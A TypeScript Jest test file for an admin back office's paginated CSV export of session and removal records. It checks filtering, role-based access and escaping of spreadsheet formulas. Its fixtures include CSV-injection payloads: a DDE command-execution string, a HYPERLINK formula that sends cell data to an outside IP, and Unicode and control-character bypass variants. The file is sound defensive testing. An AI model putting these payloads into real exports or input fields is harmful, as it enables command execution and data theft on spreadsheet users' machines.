import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import { openDatabase, type Database } from '../../src/database/open-database.js'
import { databasePlaces } from '../servers/database-places.js'
import { backOffice } from './back-office.js'

type Person = Awaited<ReturnType<Awaited<ReturnType<typeof backOffice>>['login']>>

interface Answer {
  csv?: string
  rows: number
  next: number | null
  notice?: { message: string }
}

/** What somebody may call himself so that a spreadsheet runs it, whatever it separates columns by. */
const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ...[`=cmd|' /C calc'!A0`, '=HYPERLINK("http://192.0.2.1/?"&A1,"click")', ` =1+1`, `"=1+1`, `'=1+1`],
  // LibreOffice and Gnumeric save a cell without its control characters; what is left would begin with the formula.
  ...['\u0001=1+1', '\u000b@A1', '\u000c-1', '\u00a0=1+1', '\u200b+1', '\u2003=1+1', '\ufeff=1+1', '\u3000=1+1'],
  ...['x;\u0001=1+1', 'x,\u00a0=1+1', 'x\t\u200b@A1', 'x\n\u000b=1+1'],
  ...['x;=1+1', 'x,=1+1', 'x\t=1+1', 'x\r\n=1+1', 'x\n@A1', 'x; "=1+1"', 'x;;;+1', `x;'"=1`, 'x;\n;－1', 'x","=1+1'],
]
/** What is no formula, and comes back as it is. */
const names = [
  ...[
    'Zoë',
    '日本',
    'say "hi"',
    'two\r\nlines',
    'a,b;c\td',
    '\u202Egnp.exe\u2066',
    'a\u0001\u001b[31mb\u007f',
    '\u2400',
  ],
  ...['<script>', '  spaces  ', '0012', '1e5', "it's", '😀'.repeat(900)],
]

/** Whether a spreadsheet would take it for a formula. */
const isFormula = (cell: string) =>
  /^["'\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) && !/^["\s\p{C}]*'/u.test(cell)

function csvAs({ agent }: Person) {
  const piece = async (resource: string, query: string) =>
    (await agent.get(`/admin/api/resources/${resource}/actions/csv?${query}`).expect(200)).body as Answer
  return {
    piece,
    /** The whole file, as the page puts it together. */
    async file(resource: string, query = '') {
      let text = ''
      const pieces: number[] = []
      for (let after: number | null = 0; after !== null;) {
        const { csv, rows, next }: Answer = await piece(resource, `${query}&after=${after}`)
        text += csv
        pieces.push(rows)
        after = next
      }
      return { text, pieces, rows: parse(text, { columns: true }) as Record<string, string>[] }
    },
  }
}

describe.each(databasePlaces)('a list as CSV, on $name', ({ missing, start }) => {
  if (missing) {
    test.skip(missing, () => {})
    return
  }
  let stop: () => Promise<void>
  let database: Database
  let office: Awaited<ReturnType<typeof backOffice>>
  let all: ReturnType<typeof csvAs>
  let reseller: ReturnType<typeof csvAs>
  const endedAt = new Date('2026-11-01T10:00:00.250Z')
  const line = (rowId: number, over: object) => ({
    ...{
      kind: 'ftp' as const,
      rowId,
      host: 'h',
      source: 's',
      key: `k${rowId}`,
      how: 'unknown' as const,
      endedAt,
      ...over,
    },
  })
  const removal = (recordId: number, over: object) => ({
    ...{ batch: 'b', recordId, kind: 'ftp' as const, removedVia: 'admin' as const, outcome: 'ended' as const, ...over },
    requestedAt: endedAt,
  })

  beforeAll(async () => {
    const place = await start()
    stop = place.stop
    office = await backOffice({
      database: place.options,
      pollEvery: 600_000,
      access: {
        remove: () => true,
        list: ({ currentAdmin }) =>
          currentAdmin?.role === 'admin' || (currentAdmin?.role === 'reseller' && { login: 'mine' }),
      },
    })
    database = await openDatabase(place.options)
    await database.history.insert(formulas.map((login, i) => line(i, { login })))
    await database.history.insert(
      names.map((login, i) => line(100 + i, { login, startedAt: endedAt, movedBytes: 6e9 })),
    )
    const many = Array.from({ length: 2100 }, (_, i) =>
      line(1000 + i, { login: i % 2 ? 'mine' : 'theirs', source: 'many' }),
    )
    for (let i = 0; i < many.length; i += 100) await database.history.insert(many.slice(i, i + 100))
    await database.removals.insert([
      ...formulas.map((reason, i) => removal(i, { reason, login: 'x' })),
      removal(900, { reason: 'named', login: 'mine', byForce: true, said: [{ key: 'endedByDead' }] }),
    ])
    all = csvAs(await office.login('admin@example.com'))
    reseller = csvAs(await office.login('reseller@example.com'))
  })
  afterAll(async () => {
    await database?.close()
    await office?.stop()
    await stop?.()
  })

  test('has what matches the filters, on all pages, oldest first, in pieces of a thousand', async () => {
    const { pieces, rows } = await all.file('SessionHistory', 'filters.source=many')
    expect(pieces).toEqual([1000, 1000, 100])
    expect(rows.map(({ key }) => key)).toEqual(Array.from({ length: 2100 }, (_, i) => `k${1000 + i}`))
    expect((await all.file('SessionHistory', 'filters.search=Zo%C3%AB')).rows).toHaveLength(1)
    expect((await all.file('SessionHistory', 'filters.login=nobody')).rows).toEqual([])
  })

  test('has a column for each field by its own name, times in UTC, and nothing where nothing is known', async () => {
    const { rows, text } = await all.file('SessionHistory', 'filters.key==k100')
    expect(rows).toMatchObject([
      {
        ...{ kind: 'ftp', login: 'Zoë', how: 'unknown', host: 'h', source: 's', key: 'k100', movedBytes: '6000000000' },
        ...{ startedAt: '2026-11-01T10:00:00.250Z', endedAt: '2026-11-01T10:00:00.250Z', ip: '', userAgent: '' },
      },
    ])
    expect(text.split('\r\n')).toHaveLength(3)
  })

  test('of removals has who, whose, when and why, and neither the row nor what is said by keys', async () => {
    const { rows } = await all.file('SessionRemoval', 'filters.login=mine')
    expect(rows).toMatchObject([
      {
        ...{ login: 'mine', reason: 'named', outcome: 'ended', removedVia: 'admin', byForce: 'true', batch: 'b' },
        requestedAt: '2026-11-01T10:00:00.250Z',
      },
    ])
    for (const not of ['session', 'said', 'takenBy', 'beat']) expect(rows[0]).not.toHaveProperty(not)
  })

  test.each([
    ['SessionHistory', 'login', 'filters.source==s'],
    ['SessionRemoval', 'reason', ''],
  ])('of %s holds no formula, by whatever a spreadsheet separates the columns', async (resource, field, query) => {
    const { text, rows } = await all.file(resource, query)
    const cells = rows.map((row) => row[field]!).filter((cell) => !names.includes(cell))
    expect(cells.length).toBeGreaterThanOrEqual(formulas.length)
    // Nothing but apostrophes is added.
    for (const formula of formulas) {
      expect(cells.map((cell) => cell.replaceAll("'", ''))).toContain(formula.replaceAll("'", ''))
    }
    for (const delimiter of [',', ';', '\t']) {
      // As a spreadsheet reads it: a quote in the middle of a cell is a character, and an end of a line ends the row.
      const found = text.split(/\r\n|\r|\n/).flatMap((each) => {
        const read = parse(each, { delimiter, relax_quotes: true, relax_column_count: true, quote: null }) as string[][]
        return read.flat()
      })
      expect(found.filter(isFormula)).toEqual([])
      const quoted = parse(text, { delimiter, relax_quotes: true, relax_column_count: true }) as string[][]
      expect(quoted.flat().filter(isFormula)).toEqual([])
    }
  })

  test('has hostile names as they are', async () => {
    const { rows } = await all.file('SessionHistory', 'filters.source==s')
    expect(rows.map(({ login }) => login).slice(-names.length)).toEqual(names)
  })

  test('has what the asker may see, whatever he asks for', async () => {
    for (const query of ['', 'filters.login=theirs', 'filters.source=many']) {
      const { rows } = await reseller.file('SessionHistory', query)
      expect(rows.every(({ login }) => login === 'mine')).toBe(true)
      expect(rows).toHaveLength(1050)
    }
    expect((await reseller.file('SessionRemoval')).rows.map(({ login }) => login)).toEqual(['mine'])
    const reader = csvAs(await office.login('reader@example.com'))
    for (const resource of ['SessionHistory', 'SessionRemoval']) {
      const answer = await reader.piece(resource, '')
      expect(answer.csv).toBeUndefined()
      expect(answer.notice).toMatchObject({ type: 'error' })
    }
  })

  test.each(['-1', 'x', '99999999999', '1.5', ''])('begins at the beginning after %j', async (after) => {
    expect(await all.piece('SessionHistory', `filters.key==k100&after=${after}`)).toMatchObject({ rows: 1, next: null })
  })
})
